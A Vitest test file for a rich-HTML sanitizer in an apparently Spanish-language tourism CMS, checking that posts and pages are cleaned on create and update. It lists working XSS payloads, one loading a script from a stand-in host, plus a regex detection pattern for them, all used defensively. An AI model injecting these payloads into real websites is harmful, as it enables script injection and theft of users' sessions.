import { describe, expect, it } from 'vitest';
import sanitizeHtml from 'sanitize-html';
import { isPlainRichHtml, RICH_HTML_OPTIONS, sanitizeRichHtml } from '../../src/server/http/sanitize';
import { describeEachDatabase } from './support/testServer';
import type { Post } from '../../src/domain/posts';
import type { Page } from '../../src/domain/pages';

/** Known XSS payloads (OWASP's filter-evasion cheat sheet and friends); none may survive. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<p style="width: expression(alert(1))">x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="behavior: url(xss.htc)">x</div>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "javascript:alert(1)";</style>',
  '<base href="javascript:alert(1)//">',
];

const DANGEROUS = new RegExp(
  [
    ...['<script', '<iframe', '<object', '<embed', '<svg', '<style', '<meta', '<base', '<form'],
    String.raw`\son\w+\s*=`,
    ...['javascript:', 'vbscript:', 'data:', String.raw`expression\(`, String.raw`url\(`, 'behavior'],
  ].join('|'),
  'i',
);

describe('rich HTML sanitizer', () => {
  it.each(PAYLOADS)('POST-09 drops %s', (payload) => {
    expect(sanitizeRichHtml(`<p>Antes</p>${payload}<p>Después</p>`)).not.toMatch(DANGEROUS);
  });

  it('POST-09 POST-10 keeps formatting, links, images and the editor alignment and colours', () => {
    const html =
      '<h2>Damajagua</h2><p style="text-align:center"><strong>27</strong> <em>charcos</em> <u>y</u> <s>más</s></p>' +
      '<ul><li>Uno</li></ul><ol><li>Dos</li></ol><blockquote>Cita</blockquote><pre><code>x</code></pre>' +
      '<p><a href="https://www.ocean-world.info" target="_blank">Ocean World</a> <a href="/tours">Tours</a> ' +
      '<a href="mailto:info@ep.do">mail</a></p>' +
      '<p><img src="/media/damajagua.jpg" alt="Salto"></p><p><span style="color:#e03131">rojo</span> <mark ' +
      'style="background-color:#ffe066">amarillo</mark></p>';
    const clean = sanitizeRichHtml(html);
    for (const kept of [
      '<h2>Damajagua</h2>',
      '<p style="text-align:center"><strong>27</strong> <em>charcos</em> <u>y</u> <s>más</s></p>',
      '<ul><li>Uno</li></ul><ol><li>Dos</li></ol><blockquote>Cita</blockquote><pre><code>x</code></pre>',
      '<a href="/tours">Tours</a>',
      '<a href="mailto:info@ep.do">mail</a>',
      '<img src="/media/damajagua.jpg" alt="Salto" />',
      '<span style="color:#e03131">rojo</span>',
      '<mark style="background-color:#ffe066">amarillo</mark>',
    ]) {
      expect(clean).toContain(kept);
    }
    // A link opening a new tab cannot reach back into the page that opened it.
    expect(clean).toContain(
      '<a href="https://www.ocean-world.info" target="_blank" rel="noopener noreferrer">Ocean World</a>',
    );
  });
});

/** Pieces of rich text, plain and not: nested at random, they must read as the sanitizer itself would write them. */
const PLAIN = {
  tags: ['p', 'h2', 'h6', 'strong', 'em', 'span', 'sup', 'ul', 'ol', 'li', 'blockquote'],
  texts: ['Sosúa', ' ', 'dice "sí" y \'no\'', '\n', 'a\tb', '<br />'],
};
const ANY = {
  tags: [...PLAIN.tags, 'div', 'a', 'script', 'P', 'table', 'td'],
  texts: [
    ...PLAIN.texts,
    'x > y',
    'a & b',
    '&amp;',
    '&lt;p&gt;',
    '\r\n',
    '<br>',
    '<br/>',
    '<p>',
    '</p>',
    '</li>',
    '<p class="x">',
    '<!-- c -->',
    '<',
  ],
};

function randomHtml(next: () => number, pieces: typeof PLAIN, depth: number): string {
  const pick = <T>(list: readonly T[]) => list[Math.floor(next() * list.length)];
  let html = '';
  for (let count = Math.floor(next() * 4); count >= 0; count -= 1) {
    if (depth === 0 || next() < 0.4) html += pick(pieces.texts);
    else {
      const tag = pick(pieces.tags);
      html += `<${tag}>${randomHtml(next, pieces, depth - 1)}</${tag}>`;
    }
  }
  return html;
}

describe('rich HTML the sanitizer would keep as it is', () => {
  it("POST-09 the editor's plain text is read as clean and kept unchanged", () => {
    const html =
      '<h2>Damajagua</h2><p><strong>27</strong> <em>charcos</em>, <u>y</u> <s>más</s><br />"¡Vamos!"</p>' +
      '<ul><li><p>Uno</p><ol><li>Dos</li></ol></li></ul><blockquote><p>Cita</p></blockquote><p></p>';
    expect(isPlainRichHtml(html)).toBe(true);
    expect(sanitizeHtml(html, RICH_HTML_OPTIONS)).toBe(html);
  });

  it.each([
    '<p>a & b</p>',
    '<p>a<br>b</p>',
    '<p><ul><li>x</li></ul></p>',
    '<ul><li>a<li>b</li></ul>',
    '<p>open',
    '<P>x</P>',
    '<p class="x">x</p>',
    '<div>x</div>',
    '<script>x</script>',
  ])('POST-09 %s goes through the sanitizer', (html) => {
    expect(isPlainRichHtml(html)).toBe(false);
  });

  it('POST-09 whatever is read as clean, the sanitizer hands back unchanged (3,000 random texts)', () => {
    let seed = 44;
    // A fixed linear congruential sequence: the same texts on every run.
    const next = () => (seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648) / 2_147_483_648;
    let clean = 0;
    for (let run = 0; run < 3000; run += 1) {
      const html = randomHtml(next, run % 2 ? PLAIN : ANY, 3);
      expect(sanitizeRichHtml(html), html).toBe(sanitizeHtml(html, RICH_HTML_OPTIONS));
      if (isPlainRichHtml(html)) clean += 1;
    }
    // Both ways are taken often enough for the comparison to mean something.
    expect(clean).toBeGreaterThan(300);
    expect(clean).toBeLessThan(2700);
  });
});

describe('rich HTML sanitizer and tables', () => {
  it('EDITOR POST-10 keeps tables with merged cells, blocks and their allowed styles (issue 23)', () => {
    const html =
      '<table><thead><tr><th colspan="2" scope="col">Horario</th></tr></thead><tbody><tr><td ' +
      'rowspan="2"><p>7:00</p></td><td style="font-size:18px">Salida</td></tr></tbody></table>' +
      '<div class="nota" style="text-align:center"><p>Traer protector solar</p></div>';
    expect(sanitizeRichHtml(html)).toBe(html);
  });
});

describeEachDatabase('stored rich HTML', (session) => {
  const call = <T>(method: string, path: string, body?: unknown) =>
    session().server.call<T>(method, path, { cookie: session().owner, body });

  it('POST-09 API-16 API-14 post content is sanitized on create and update, whoever sends it', async () => {
    const dirty =
      '<p onclick="steal()">Amber Cove</p><script>alert(1)</script><img src="/media/a.jpg" onerror="x()"><a ' +
      'href="javascript:alert(1)">x</a>';
    const created = await call<Post>('POST', '/api/blog/posts', { title: 'XSS', slug: 'xss-post', content: dirty });
    expect(created.body.content).toBe('<p>Amber Cove</p><img src="/media/a.jpg" /><a>x</a>');
    const updated = await call<Post>('PUT', `/api/blog/posts/${created.body.id}`, {
      content: '<svg onload=alert(1)></svg><p style="width:expression(alert(1))">ok</p>',
    });
    expect(updated.body.content).toBe('<p>ok</p>');
  });

  it('POST-09 page content is sanitized with the same rules', async () => {
    const created = await call<Page>('POST', '/api/pages', {
      title: 'XSS',
      content: '<a href="data:text/html,x">x</a><p style="background:url(javascript:x)">y</p>',
    });
    expect(created.body.content).toBe('<a>x</a><p>y</p>');
  });

  it('POST-09 plain-text fields are stored as typed (they are rendered as text, never as HTML)', async () => {
    const title = '<img src=x onerror=alert(1)> Cayo Arena';
    const created = await call<Post>('POST', '/api/blog/posts', {
      title,
      slug: 'plain-text-title',
      summary: '<b>bold?</b>',
    });
    expect(created.body).toMatchObject({ title, summary: '<b>bold?</b>' });
  });
});
